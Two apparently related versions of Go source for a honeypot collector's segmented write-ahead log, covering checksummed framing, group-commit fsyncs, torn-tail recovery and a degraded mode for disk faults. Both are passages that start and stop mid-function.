		seq, ok := parseSegmentName(e.Name())
		if !ok {
			continue
		}
		info, err := e.Info()
		if err != nil {
			return nil, err
		}
		segs = append(segs, SegmentStat{Name: e.Name(), Seq: seq, Bytes: info.Size()})
	}
	sort.Slice(segs, func(i, j int) bool { return segs[i].Seq < segs[j].Seq })
	return segs, nil
}

// Open opens (creating if necessary) the WAL in dir, recovers its
// contents, truncates any torn tail frame on the final segment, and
// positions the log for appending. A torn or corrupt frame on a
// non-final segment is refused — completed segments were fsynced before
// their successor existed, so damage there is corruption, not a crash
// artifact; use Repair to salvage the intact prefix.
func Open(dir string, opts Options) (*Log, *Recovery, error) {
	opts, err := opts.withDefaults()
	if err != nil {
		return nil, nil, err
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, nil, fmt.Errorf("wal: creating %s: %w", dir, err)
	}
	rec, err := scan(dir, opts.Epoch, true)
	if err != nil {
		return nil, nil, err
	}
	l := &Log{
		dir:           dir,
		opts:          opts,
		syncReq:       make(chan *os.File, 1),
		syncDone:      make(chan error, 1),
		committerDone: make(chan struct{}),
	}
	l.opts.Epoch = rec.Epoch

	if n := len(rec.Segments); n > 0 {
		last := &rec.Segments[n-1]
		f, err := os.OpenFile(filepath.Join(dir, last.Name), os.O_RDWR, 0o644)
		if err != nil {
			return nil, nil, fmt.Errorf("wal: opening segment: %w", err)
		}
		// Truncate the torn tail so appends continue from the last intact
		// frame; recovery already dropped those bytes from the stats.
		if err := f.Truncate(last.GoodBytes); err != nil {
			f.Close()
			return nil, nil, fmt.Errorf("wal: truncating torn tail: %w", err)
		}
		if _, err := f.Seek(last.GoodBytes, io.SeekStart); err != nil {
			f.Close()
			return nil, nil, fmt.Errorf("wal: seeking segment end: %w", err)
		}
		// A resumed segment keeps the codec its meta frame declares, so
		// frames within it stay homogeneous; the configured format takes
		// over at the next rotation.
		l.f, l.seq, l.size, l.format = f, last.Seq, last.GoodBytes, last.Format
		// A fully torn final segment lost even its meta frame; rewrite it
		// so the segment stands alone again.
		if l.size == 0 {
			l.format = l.opts.Format
			if err := l.writeMetaLocked(); err != nil {
				f.Close()
				return nil, nil, err
			}
		}
	} else {
		if err := l.rollLocked(1); err != nil {
			return nil, nil, err
		}
	}
	go l.committer()
	return l, rec, nil
}

// scan reads every segment, validating frames. truncating selects Open
// semantics (torn tail allowed on the final segment only); Verify and
// Repair pass false to collect stats for damaged middles too.
func scan(dir string, epoch time.Time, truncating bool) (*Recovery, error) {
	segs, err := listSegments(dir)
	if err != nil {
		return nil, fmt.Errorf("wal: listing %s: %w", dir, err)
	}
	rec := &Recovery{Epoch: epoch}
	for i := range segs {
		seg := &segs[i]
		batches, err := scanSegment(dir, seg, rec)
		if err != nil {
			return nil, err
		}
		if seg.Torn && truncating && i != len(segs)-1 {
			return nil, fmt.Errorf("wal: segment %s has a corrupt frame %d bytes in but is not the final segment; run fsck -repair to truncate it", seg.Name, seg.GoodBytes)
		}
		rec.Batches = append(rec.Batches, batches...)
		rec.TornBytes += seg.TornBytes
	}
	rec.Segments = segs
	// An epoch is established by Options.Epoch or any intact meta frame;
	// without either (fresh directory, or every meta frame torn) the log
	// cannot replay into a store.
	if rec.Epoch.IsZero() {
		return nil, fmt.Errorf("wal: directory %s has no recoverable epoch; supply Options.Epoch", dir)
	}
	return rec, nil
}

// scanSegment walks one segment's frames, filling seg's counters and
// returning its intact batches. The first frame must be a meta frame
// whose format and sequence match; an epoch mismatch against an already
// established epoch is an error, a zero established epoch adopts the
// recorded one. Batch frames decode with the codec the meta frame
// declares.
func scanSegment(dir string, seg *SegmentStat, rec *Recovery) ([]Batch, error) {
	data, err := os.ReadFile(filepath.Join(dir, seg.Name))
	if err != nil {
		return nil, fmt.Errorf("wal: reading segment: %w", err)
	}
	var batches []Batch
	off := int64(0)
	first := true
	// Each intact frame advances off by at least frameHeaderSize, so the
	// scan is bounded by the segment length.
	for off < int64(len(data)) {
		payload, next, ok := nextFrame(data, off)
		if !ok {
			break
		}
		if first {
			epoch, format, intact, err := decodeMeta(payload, seg.Name, seg.Seq, rec.Epoch)
			if err != nil {
				return nil, err
			}
			if !intact {
				break // damaged meta frame: treat as torn at offset 0
			}
			rec.Epoch = epoch
			seg.Format = format
			first = false
			off = next
			continue
		}
		b, intact := decodeBatch(payload, seg.Format)
		if !intact {
			break // unknown kind or undecodable body: stop at the last understood frame
		}
		batches = append(batches, b)
		seg.Frames++
		seg.Records += len(b.Records)
		off = next
	}
	seg.GoodBytes = off
	seg.TornBytes = seg.Bytes - off
	seg.Torn = seg.TornBytes > 0
	return batches, nil
}

// decodeMeta validates a segment's leading meta-frame payload against
// the segment's name and sequence and an already-established epoch (a
// zero established epoch adopts the recorded one; the returned epoch is
// the established one either way), and returns the batch codec the
// segment declares. intact is false when the payload is not a decodable
// meta frame — damaged bytes the caller treats as a torn tail. err
// reports format, sequence or epoch mismatches: those frames decoded
// fine, so the damage is corruption, not a tear.
func decodeMeta(payload []byte, name string, seq uint64, established time.Time) (epoch time.Time, format string, intact bool, err error) {
	var meta metaBody
	if len(payload) == 0 || payload[0] != kindMeta || json.Unmarshal(payload[1:], &meta) != nil {
		return time.Time{}, "", false, nil
	}
	if meta.Format != FormatName && meta.Format != FormatNameV2 {
		return time.Time{}, "", false, fmt.Errorf("wal: segment %s has unknown format %q", name, meta.Format)
	}
	if meta.Segment != seq {
		return time.Time{}, "", false, fmt.Errorf("wal: segment %s records sequence %d", name, meta.Segment)
	}
	if established.IsZero() {
		return meta.Epoch, meta.Format, true, nil
	}
	if !meta.Epoch.Equal(established) {
		return time.Time{}, "", false, fmt.Errorf("wal: segment %s epoch %s does not match %s", name, meta.Epoch, established)
	}
	return established, meta.Format, true, nil
}

// decodeBatch decodes a batch-frame payload with the segment's codec.
// intact is false for an unknown frame kind or an undecodable body.
func decodeBatch(payload []byte, format string) (Batch, bool) {
	if format == FormatNameV2 {
		return decodeBatchV2(payload)
	}
	if len(payload) == 0 || payload[0] != kindBatch {
		return Batch{}, false
	}
	var body batchBody
	if err := json.Unmarshal(payload[1:], &body); err != nil {
		return Batch{}, false
	}
	return Batch{Tag: body.Tag, Records: body.Records}, true
}

// encodeBatchFrame builds a complete batch frame for the given format
// into b (which holds a reserved header, see getFrameBuilder). The kind
// byte and body are appended directly to the frame buffer — no
// intermediate payload copy in either format.
func encodeBatchFrame(b *wire.Builder, format string, tag uint64, recs []*honeypot.SessionRecord) error {
	b.Byte(kindBatch)
	if format == FormatNameV2 {
		encodeBatchV2(b, tag, recs)
		return nil
	}
	body, err := json.Marshal(batchBody{Tag: tag, Records: recs})
	if err != nil {
		return fmt.Errorf("wal: encoding batch: %w", err)
	}
	b.Raw(body)
	return nil
}

// nextFrame validates the frame at off and returns its payload and the
// next offset. ok is false when the remaining bytes do not hold one
// intact frame (short header, short payload, CRC mismatch, or an
// implausible length).
func nextFrame(data []byte, off int64) (payload []byte, next int64, ok bool) {
	rest := data[off:]
	if len(rest) < frameHeaderSize {
		return nil, 0, false
	}
	n := binary.LittleEndian.Uint32(rest[0:4])
	sum := binary.LittleEndian.Uint32(rest[4:8])
	if n == 0 || int64(n) > int64(len(rest))-frameHeaderSize {
		return nil, 0, false
	}
	payload = rest[frameHeaderSize : frameHeaderSize+int64(n)]
	if crc32.Checksum(payload, castagnoli) != sum {
		return nil, 0, false
	}
	return payload, off + frameHeaderSize + int64(n), true
}

// Dir returns the WAL directory.
func (l *Log) Dir() string { return l.dir }

// Epoch returns the store epoch the log records.
func (l *Log) Epoch() time.Time { return l.opts.Epoch }

// Append durably logs one batch of records under tag 0. It satisfies
// store.DurableSink.
func (l *Log) Append(recs []*honeypot.SessionRecord) error {
	return l.AppendTagged(0, recs)
}

// AppendTagged logs one batch under the given tag (the generation
// checkpoint tags batches with their shard index). The frame is written
// atomically with respect to recovery: either the whole batch replays
// or none of it does. A group commit is requested once SyncEvery
// records have accumulated since the last one; the fsync itself runs on
// the committer goroutine, overlapping this caller's (and the next
// caller's) encode work.
func (l *Log) AppendTagged(tag uint64, recs []*honeypot.SessionRecord) error {
	// Encode outside the lock into a pooled frame buffer: this is the
	// half of the pipeline that overlaps the committer's fsync.
	b := getFrameBuilder()
	defer putFrameBuilder(b)
	format := l.formatHint()
	if err := encodeBatchFrame(b, format, tag, recs); err != nil {
		return err
	}

	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return fmt.Errorf("wal: log is closed")
	}
	if l.syncErr != nil {
		return l.syncErr
	}
	if l.format != format {
		// A rotation between the hint and the lock switched codecs (at
		// most once per log lifetime, on a v1→v2 upgrade); re-encode for
		// the segment the frame will actually land in.
		b.Reset()
		var hdr [frameHeaderSize]byte
		b.Raw(hdr[:])
		if err := encodeBatchFrame(b, l.format, tag, recs); err != nil {
			return err
		}
	}
	frame := finishFrame(b)
	if _, err := l.f.Write(frame); err != nil {
		return fmt.Errorf("wal: appending frame: %w", err)
	}
	l.size += int64(len(frame))
	l.pending += len(recs)
	if l.pending >= l.opts.SyncEvery {
		if err := l.requestSyncLocked(); err != nil {
			return err
		}
	}
	if l.size >= l.opts.SegmentBytes {
		if err := l.rotateLocked(); err != nil {
			return err
		}
	}
	return nil
}

// formatHint reads the current segment's codec for the out-of-lock
// encode. It is only a hint: AppendTagged re-checks under the lock.
func (l *Log) formatHint() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.format
}

// committer is the group-commit goroutine: it performs every
// asynchronous fsync so appenders can encode the next group while the
// previous one reaches disk. It is driven purely by the count-based
// requests — there is no timer anywhere in the commit path.
func (l *Log) committer() {
	defer close(l.committerDone)
	for f := range l.syncReq {
		l.syncDone <- f.Sync()
	}
}

// waitSyncLocked collects the outstanding asynchronous fsync, if any,
// holding its error sticky. Every path that closes, rotates, or syncs
// the current segment file waits here first, so the committer never
// touches a file descriptor that has been handed off or closed.
func (l *Log) waitSyncLocked() error {
	if l.syncInFlight {
		if err := <-l.syncDone; err != nil && l.syncErr == nil {
			l.syncErr = fmt.Errorf("wal: sync: %w", err)
		}
		l.syncInFlight = false
	}
	return l.syncErr
}

// requestSyncLocked hands the current segment to the committer. The
// pipeline is one deep: group N+1 is encoded and written while group N
// syncs, and a request first waits out its predecessor.
func (l *Log) requestSyncLocked() error {
	if err := l.waitSyncLocked(); err != nil {
		return err
	}
	l.syncReq <- l.f
	l.syncInFlight = true
	l.pending = 0
	return nil
}

// pendingRecords returns the records appended since the last group
// commit was requested — the group-commit policy's observable state
// (used by tests).
func (l *Log) pendingRecords() int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.pending
}

// Sync forces a synchronous fsync of the current segment regardless of
// the group-commit counter, after collecting any in-flight group.
func (l *Log) Sync() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return fmt.Errorf("wal: log is closed")
	}
	if err := l.waitSyncLocked(); err != nil {
		return err
	}
	if err := l.f.Sync(); err != nil {
		return fmt.Errorf("wal: sync: %w", err)
	}
	l.pending = 0
	return nil
}

// Close syncs and closes the log, stopping the committer goroutine.
// The directory remains valid for a later Open.
func (l *Log) Close() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return nil
	}
	l.closed = true
	syncErr := l.waitSyncLocked()
	close(l.syncReq)
	<-l.committerDone
	if syncErr != nil {
		l.f.Close()
		return syncErr
	}
	if err := l.f.Sync(); err != nil {
		l.f.Close()
		return fmt.Errorf("wal: sync on close: %w", err)
	}
	return l.f.Close()
}

// rotateLocked seals the current segment (fsync + close) and opens the
// next one. Sealing before the successor exists is what confines torn
// tails to the final segment; any in-flight group commit is collected
// first so the seal covers every written frame.
func (l *Log) rotateLocked() error {
	if err := l.waitSyncLocked(); err != nil {
		return err
	}
	if err := l.f.Sync(); err != nil {
		return fmt.Errorf("wal: sync before rotation: %w", err)
	}
	if err := l.f.Close(); err != nil {
		return fmt.Errorf("wal: closing segment: %w", err)
	}
	l.pending = 0
	return l.rollLocked(l.seq + 1)
}

// rollLocked opens segment seq for appending and writes its meta frame.
// New segments always use the configured codec.
func (l *Log) rollLocked(seq uint64) error {
	f, err := os.OpenFile(filepath.Join(l.dir, segmentName(seq)), os.O_RDWR|os.O_CREATE|os.O_EXCL, 0o644)
	if err != nil {
		return fmt.Errorf("wal: creating segment: %w", err)
	}
	l.f, l.seq, l.size, l.format = f, seq, 0, l.opts.Format
	if err := l.writeMetaLocked(); err != nil {
		f.Close()
		return err
	}
	return nil
}

// writeMetaLocked writes (and syncs) the current segment's meta frame,
// declaring the segment's batch codec.
func (l *Log) writeMetaLocked() error {
	body, err := json.Marshal(metaBody{Format: l.format, Segment: l.seq, Epoch: l.opts.Epoch})
	if err != nil {
		return fmt.Errorf("wal: encoding meta: %w", err)
	}
	b := getFrameBuilder()
	defer putFrameBuilder(b)
	b.Byte(kindMeta)
	b.Raw(body)
	frame := finishFrame(b)
	if _, err := l.f.Write(frame); err != nil {
		return fmt.Errorf("wal: writing meta frame: %w", err)
	}
	if err := l.f.Sync(); err != nil {
		return fmt.Errorf("wal: syncing meta frame: %w", err)
	}
	l.size += int64(len(frame))
	return nil
}
