// Package wal implements the collector's segmented, append-only
// write-ahead log. The paper's honeyfarm survived 15 months of
// continuous ingest; this package is the durability layer that lets our
// collector do the same: session-record batches are framed, checksummed
// and appended to segment files, fsynced in deterministic record-count
// groups, and recovered after a crash by scanning the segments,
// truncating the torn tail frame, and replaying every intact frame.
//
// On-disk layout: a WAL directory holds segment files named
// wal-<seq>.seg. Each segment starts with a meta frame carrying the
// format name, the segment sequence number and the store epoch; batch
// frames follow. A frame is
//
//	uint32 LE  payload length n
//	uint32 LE  CRC-32C (Castagnoli) of the payload
//	n bytes    payload: 1 kind byte + body
//
// The meta frame's body is always JSON, and its Format field declares
// how the segment's batch bodies are encoded: "honeyfarm-wal-v1" is
// JSON, "honeyfarm-wal-v2" is the binary record codec (codec.go). A
// directory may mix segment formats — an upgraded collector resumes a
// v1 tail in v1 and switches to v2 at the next rotation — and every
// reader (Open, Verify, Repair, Iterator, fsck) dispatches per segment.
// Gap frames (also JSON in every format) record degraded-mode outages;
// see below.
//
// Appends go to the highest segment; when it exceeds the configured
// byte threshold it is fsynced, closed, and a new segment is opened.
// Because a segment is only ever succeeded after a full sync, a crash
// can tear at most the tail of the final segment — the recovery
// invariant the torn-tail rule and the crash-at-every-offset property
// test depend on.
//
// Group commits are pipelined: a single committer goroutine owns the
// asynchronous fsyncs, so the fsync of group N overlaps the encode and
// write of group N+1. The schedule stays strictly count-based
// (SyncEvery records per group, never a timer), so the flush points are
// a deterministic function of the append stream.
//
// # Fault model
//
// All file I/O goes through an iofault.FS (Options.FS, defaulting to
// the real filesystem), so every disk-error path is testable. Disk
// errors are classified by iofault.Transient: out-of-space and
// interrupted-syscall errnos get a bounded deterministic retry with
// capped backoff (Options.RetryAttempts / Options.RetryPlan, the
// supervisor's faults.Backoff policy); EIO and everything else are
// permanent. When retries are exhausted — or an fsync fails, where
// retrying cannot restore the lost ordering guarantee — the log
// degrades instead of dying: the current segment is sealed best-effort
// at its last frame-aligned size, subsequent appends are counted and
// dropped (ErrDegraded), and every ProbeEvery-th append probes for
// recovery by rolling a fresh segment. A successful probe first writes
// a gap frame recording the outage (reason, dropped batch/record
// counts), so readers — fsck, and the query follower's accounting —
// see the hole instead of inferring it. Health() exposes the state
// machine's position; a failing disk degrades durability, never the
// in-memory dataset (store.Store keeps everything it accepted).
package wal

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	iofs "io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"syscall"
	"time"

	"honeyfarm/internal/atomicio"
	"honeyfarm/internal/faults"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/iofault"
	"honeyfarm/internal/store"
	"honeyfarm/internal/wire"
)

// Format names recorded in segment meta frames. The name selects the
// batch-body codec for every frame in that segment.
const (
	// FormatName is the v1 format: JSON batch bodies.
	FormatName = "honeyfarm-wal-v1"
	// FormatNameV2 is the v2 format: binary batch bodies in SSH wire
	// style (internal/wire). The default for newly created segments.
	FormatNameV2 = "honeyfarm-wal-v2"
)

// Frame kinds (first payload byte).
const (
	kindMeta  = 1 // segment header: format, sequence, epoch
	kindBatch = 2 // session-record batch
	kindGap   = 3 // degraded-mode outage record (JSON in every format)
)

// frameHeaderSize is the fixed prefix of every frame: length + CRC.
const frameHeaderSize = 8

// castagnoli is the CRC-32C table used by every frame checksum.
var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// ErrDegraded marks appends refused while the log is degraded. The
// records were counted and dropped from the WAL (the in-memory store
// keeps them); errors.Is(err, ErrDegraded) distinguishes this
// accounted-for state from an unexpected failure.
var ErrDegraded = errors.New("wal: degraded")

// Options tunes a log. The zero value selects the defaults.
type Options struct {
	// Epoch is the store epoch recorded in segment meta frames and used
	// to replay recovered records. Required when the directory has no
	// recoverable meta frame; must match the recorded epoch otherwise
	// (zero means "use whatever is recorded").
	Epoch time.Time
	// SegmentBytes rotates to a new segment once the current one reaches
	// this size (default 8 MiB).
	SegmentBytes int64
	// SyncEvery is the group-commit policy: fsync after this many
	// appended records (default 512). It is a record count, not a timer,
	// so the flush schedule is a deterministic function of the append
	// stream. 1 syncs every append.
	SyncEvery int
	// Format selects the codec for newly created segments: FormatNameV2
	// (the default) or FormatName for the JSON codec. A resumed segment
	// always keeps its recorded format until rotation, whatever this
	// says, so frames within one segment are homogeneous.
	Format string
	// FS is the filesystem the log reads and writes through (default
	// the real one). Tests inject deterministic disk faults here.
	FS iofault.FS
	// RetryAttempts bounds how many times a transient disk error
	// (iofault.Transient: ENOSPC-family, EINTR, EAGAIN) is retried
	// before the log degrades (default 3; 1 disables retry). Permanent
	// errors degrade immediately.
	RetryAttempts int
	// RetryPlan supplies the capped-exponential backoff between retry
	// attempts via faults.Backoff. nil uses the defaults (25ms base, 2s
	// cap, no jitter) — the same policy the farm supervisor runs.
	RetryPlan *faults.Plan
	// ProbeEvery controls degraded-mode recovery probing: the first
	// append after degrading probes immediately, then every
	// ProbeEvery-th dropped append probes again (default 64).
	ProbeEvery int
}

func (o Options) withDefaults() (Options, error) {
	if o.SegmentBytes <= 0 {
		o.SegmentBytes = 8 << 20
	}
	if o.SyncEvery <= 0 {
		o.SyncEvery = 512
	}
	if o.Format == "" {
		o.Format = FormatNameV2
	}
	if o.Format != FormatName && o.Format != FormatNameV2 {
		return o, fmt.Errorf("wal: unknown format %q", o.Format)
	}
	if o.FS == nil {
		o.FS = iofault.OS
	}
	if o.RetryAttempts <= 0 {
		o.RetryAttempts = 3
	}
	if o.ProbeEvery <= 0 {
		o.ProbeEvery = 64
	}
	return o, nil
}

// Batch is one recovered record batch. Tag carries the caller's label
// (the generation checkpoint stores shard indexes there; plain durable
// sinks use 0).
type Batch struct {
	Tag     uint64
	Records []*honeypot.SessionRecord
}

// batchBody is the JSON body of a v1 batch frame.
type batchBody struct {
	Tag     uint64                    `json:"tag"`
	Records []*honeypot.SessionRecord `json:"records"`
}

// metaBody is the JSON body of a segment meta frame (JSON in every
// format — it is what declares the format).
type metaBody struct {
	Format  string    `json:"format"`
	Segment uint64    `json:"segment"`
	Epoch   time.Time `json:"epoch"`
}

// Gap is one recorded degraded-mode outage: the frame a recovery probe
// writes at the head of its fresh segment, so every reader sees how
// many batches the outage dropped instead of silently missing them.
// The body is JSON in every segment format, like the meta frame.
type Gap struct {
	// Reason classifies the failure that opened the outage, e.g.
	// "append: enospc" or "group commit fsync: eio". Deliberately free
	// of paths and timestamps so identically seeded runs stay
	// byte-identical.
	Reason string `json:"reason"`
	// Batches and Records count the appends dropped during the outage.
	Batches int `json:"batches"`
	Records int `json:"records"`
}

// Health is a snapshot of the log's degraded-mode state machine.
type Health struct {
	// Degraded reports the log is currently refusing appends; Reason
	// carries the underlying failure.
	Degraded bool   `json:"degraded"`
	Reason   string `json:"reason,omitempty"`
	// DroppedBatches and DroppedRecords count appends refused across
	// all outages of this Log instance.
	DroppedBatches int `json:"dropped_batches"`
	DroppedRecords int `json:"dropped_records"`
	// Outages counts entries into degraded mode; Recoveries counts
	// successful probes back out of it.
	Outages    int `json:"outages"`
	Recoveries int `json:"recoveries"`
	// Appends and AppendedRecords count the batch frames (and the
	// records they carry) written to segments; Fsyncs counts successful
	// segment fsyncs (group commits, explicit Syncs, and rotation/close
	// seals). Together with the drop counters above they are the WAL
	// rows of the /metrics plane.
	Appends         int `json:"appends"`
	AppendedRecords int `json:"appended_records"`
	Fsyncs          int `json:"fsyncs"`
}

// SegmentStat is one segment's recovery/verification summary.
type SegmentStat struct {
	// Name is the segment file name within the WAL directory.
	Name string
	// Seq is the segment sequence number parsed from the name.
	Seq uint64
	// Format is the codec the segment's meta frame declares (empty when
	// the meta frame itself was torn).
	Format string
	// Frames and Records count the intact batch frames and the records
	// they carry (the meta frame is not counted).
	Frames  int
	Records int
	// GapFrames counts intact gap frames (degraded-mode outage records).
	GapFrames int
	// Bytes is the file size; GoodBytes the prefix covered by intact
	// frames (including the meta frame); TornBytes the difference.
	Bytes     int64
	GoodBytes int64
	TornBytes int64
	// Torn reports a torn or corrupt tail. On the final segment this is
	// the expected crash artifact; on any earlier segment it is
	// corruption (Open refuses it, fsck -repair truncates it).
	Torn bool
}

// Recovery reports what Open (or Verify) found in a WAL directory.
type Recovery struct {
	// Epoch is the store epoch recorded in the segments (or the Options
	// epoch for a fresh directory).
	Epoch time.Time
	// Batches are the intact batch frames in append order.
	Batches []Batch
	// Gaps are the degraded-mode outage records found in the segments,
	// in append order.
	Gaps []Gap
	// Segments holds per-segment frame/checksum stats in sequence order.
	Segments []SegmentStat
	// TornBytes is the total tail bytes truncated during recovery.
	TornBytes int64
	// OrphanedTmp lists stale *.tmp files found in the directory —
	// leftovers of a crash between an atomic write's Close and Rename.
	// Open sweeps them; Verify only reports them.
	OrphanedTmp []string
}

// Records counts the recovered records across all batches.
func (r *Recovery) Records() int {
	n := 0
	for _, b := range r.Batches {
		n += len(b.Records)
	}
	return n
}

// DroppedRecords sums the records the recorded gaps dropped.
func (r *Recovery) DroppedRecords() int {
	n := 0
	for _, g := range r.Gaps {
		n += g.Records
	}
	return n
}

// Replay builds a store from the recovered batches.
func (r *Recovery) Replay() *store.Store {
	s := store.New(r.Epoch)
	for _, b := range r.Batches {
		s.AddBatch(b.Records)
	}
	return s
}

// Log is an open write-ahead log. All methods are safe for concurrent
// use; concurrent Appends serialize, so the frame order is the
// serialization order.
//
// Appends are acknowledged once written; durability arrives with the
// group commit, whose fsync runs on the committer goroutine. An
// asynchronous fsync failure degrades the log, so it is surfaced by
// every subsequent Append/Sync/Close — a caller that stops appending on
// the first error (store.Store's DurableErr contract) never outruns an
// unreported sync failure by more than one group.
type Log struct {
	dir  string
	fs   iofault.FS
	opts Options

	mu      sync.Mutex
	f       iofault.File // current segment (nil while degraded)
	seq     uint64       // current segment sequence number
	size    int64        // current segment's frame-aligned size
	format  string       // current segment's batch codec
	pending int          // records appended since the last sync request
	closed  bool

	// Degraded-mode state machine (see the package fault model).
	degraded   error  // non-nil while degraded: the failure that opened the outage
	reason     string // deterministic classification of degraded ("append: enospc")
	oldSealed  bool   // pre-outage segment already truncated+fsynced+closed
	sinceProbe int    // dropped appends since the last recovery probe
	health     Health // cumulative drop/outage counters
	outageB    int    // batches dropped in the current outage (gap frame body)
	outageR    int    // records dropped in the current outage

	// Pipelined group commit: the committer goroutine performs the
	// fsyncs requested through syncReq and acknowledges on syncDone, so
	// an appender that just crossed SyncEvery hands off the sync and
	// returns to encoding. Pipeline depth is one: a second request
	// first waits out the in-flight predecessor.
	syncReq       chan iofault.File
	syncDone      chan error
	committerDone chan struct{}
	syncInFlight  bool
}

// segmentName formats the file name of segment seq.
func segmentName(seq uint64) string { return fmt.Sprintf("wal-%08d.seg", seq) }

// parseSegmentName extracts the sequence number from a segment name.
func parseSegmentName(name string) (uint64, bool) {
	if !strings.HasPrefix(name, "wal-") || !strings.HasSuffix(name, ".seg") {
		return 0, false
	}
	var seq uint64
	_, err := fmt.Sscanf(name, "wal-%d.seg", &seq)
	return seq, err == nil
}

// listSegments returns the directory's segment files in sequence order.
func listSegments(fsys iofault.FS, dir string) ([]SegmentStat, error) {
	entries, err := fsys.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var segs []SegmentStat
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		seq, ok := parseSegmentName(e.Name())
		if !ok {
			continue
		}
		info, err := e.Info()
		if err != nil {
			return nil, err
		}
		segs = append(segs, SegmentStat{Name: e.Name(), Seq: seq, Bytes: info.Size()})
	}
	sort.Slice(segs, func(i, j int) bool { return segs[i].Seq < segs[j].Seq })
	return segs, nil
}

// Open opens (creating if necessary) the WAL in dir, recovers its
// contents, truncates any torn tail frame on the final segment, sweeps
// stale *.tmp orphans, and positions the log for appending. A torn or
// corrupt frame on a non-final segment is refused — completed segments
// were fsynced before their successor existed, so damage there is
// corruption, not a crash artifact; use Repair to salvage the intact
// prefix.
func Open(dir string, opts Options) (*Log, *Recovery, error) {
	opts, err := opts.withDefaults()
	if err != nil {
		return nil, nil, err
	}
	fsys := opts.FS
	if err := fsys.MkdirAll(dir, 0o755); err != nil {
		return nil, nil, fmt.Errorf("wal: creating %s: %w", dir, err)
	}
	rec, err := scan(fsys, dir, opts.Epoch, true)
	if err != nil {
		return nil, nil, err
	}
	// Sweep the orphans the scan reported. A crash between an atomic
	// write's Close and Rename strands its .tmp forever otherwise. Safe
	// under the log's single-writer assumption; best-effort because a
	// failed remove must not block recovery (fsck reports survivors).
	if len(rec.OrphanedTmp) > 0 {
		if _, serr := atomicio.SweepTmp(fsys, dir); serr != nil {
			rec.OrphanedTmp = nil // not swept after all; leave them to fsck
		}
	}
	l := &Log{
		dir:           dir,
		fs:            fsys,
		opts:          opts,
		syncReq:       make(chan iofault.File, 1),
		syncDone:      make(chan error, 1),
		committerDone: make(chan struct{}),
	}
	l.opts.Epoch = rec.Epoch

	if n := len(rec.Segments); n > 0 {
		last := &rec.Segments[n-1]
		f, err := fsys.OpenFile(filepath.Join(dir, last.Name), os.O_RDWR, 0o644)
		if err != nil {
			return nil, nil, fmt.Errorf("wal: opening segment: %w", err)
		}
		// Truncate the torn tail so appends continue from the last intact
		// frame; recovery already dropped those bytes from the stats.
		if err := f.Truncate(last.GoodBytes); err != nil {
			f.Close()
			return nil, nil, fmt.Errorf("wal: truncating torn tail: %w", err)
		}
		if _, err := f.Seek(last.GoodBytes, io.SeekStart); err != nil {
			f.Close()
			return nil, nil, fmt.Errorf("wal: seeking segment end: %w", err)
		}
		// A resumed segment keeps the codec its meta frame declares, so
		// frames within it stay homogeneous; the configured format takes
		// over at the next rotation.
		l.f, l.seq, l.size, l.format = f, last.Seq, last.GoodBytes, last.Format
		// A fully torn final segment lost even its meta frame; rewrite it
		// so the segment stands alone again.
		if l.size == 0 {
			l.format = l.opts.Format
			if err := l.writeMetaLocked(); err != nil {
				f.Close()
				return nil, nil, err
			}
		}
	} else {
		if err := l.rollLocked(1); err != nil {
			return nil, nil, err
		}
	}
	go l.committer()
	return l, rec, nil
}

// scan reads every segment, validating frames. truncating selects Open
// semantics (torn tail allowed on the final segment only); Verify and
// Repair pass false to collect stats for damaged middles too.
func scan(fsys iofault.FS, dir string, epoch time.Time, truncating bool) (*Recovery, error) {
	segs, err := listSegments(fsys, dir)
	if err != nil {
		return nil, fmt.Errorf("wal: listing %s: %w", dir, err)
	}
	rec := &Recovery{Epoch: epoch}
	for i := range segs {
		seg := &segs[i]
		batches, err := scanSegment(fsys, dir, seg, rec)
		if err != nil {
			return nil, err
		}
		if seg.Torn && truncating && i != len(segs)-1 {
			return nil, fmt.Errorf("wal: segment %s has a corrupt frame %d bytes in but is not the final segment; run fsck -repair to truncate it", seg.Name, seg.GoodBytes)
		}
		rec.Batches = append(rec.Batches, batches...)
		rec.TornBytes += seg.TornBytes
	}
	rec.Segments = segs
	if tmps, terr := atomicio.StaleTmp(fsys, dir); terr == nil {
		rec.OrphanedTmp = tmps
	}
	// An epoch is established by Options.Epoch or any intact meta frame;
	// without either (fresh directory, or every meta frame torn) the log
	// cannot replay into a store.
	if rec.Epoch.IsZero() {
		return nil, fmt.Errorf("wal: directory %s has no recoverable epoch; supply Options.Epoch", dir)
	}
	return rec, nil
}

// scanSegment walks one segment's frames, filling seg's counters and
// returning its intact batches. The first frame must be a meta frame
// whose format and sequence match; an epoch mismatch against an already
// established epoch is an error, a zero established epoch adopts the
// recorded one. Batch frames decode with the codec the meta frame
// declares; gap frames are collected into rec.Gaps.
func scanSegment(fsys iofault.FS, dir string, seg *SegmentStat, rec *Recovery) ([]Batch, error) {
	data, err := iofault.ReadFile(fsys, filepath.Join(dir, seg.Name))
	if err != nil {
		return nil, fmt.Errorf("wal: reading segment: %w", err)
	}
	var batches []Batch
	off := int64(0)
	first := true
	// Each intact frame advances off by at least frameHeaderSize, so the
	// scan is bounded by the segment length.
	for off < int64(len(data)) {
		payload, next, ok := nextFrame(data, off)
		if !ok {
			break
		}
		if first {
			epoch, format, intact, err := decodeMeta(payload, seg.Name, seg.Seq, rec.Epoch)
			if err != nil {
				return nil, err
			}
			if !intact {
				break // damaged meta frame: treat as torn at offset 0
			}
			rec.Epoch = epoch
			seg.Format = format
			first = false
			off = next
			continue
		}
		if g, isGap, intact := decodeGap(payload); isGap {
			if !intact {
				break // CRC-valid but undecodable gap body: stop here
			}
			rec.Gaps = append(rec.Gaps, g)
			seg.GapFrames++
			off = next
			continue
		}
		b, intact := decodeBatch(payload, seg.Format)
		if !intact {
			break // unknown kind or undecodable body: stop at the last understood frame
		}
		batches = append(batches, b)
		seg.Frames++
		seg.Records += len(b.Records)
		off = next
	}
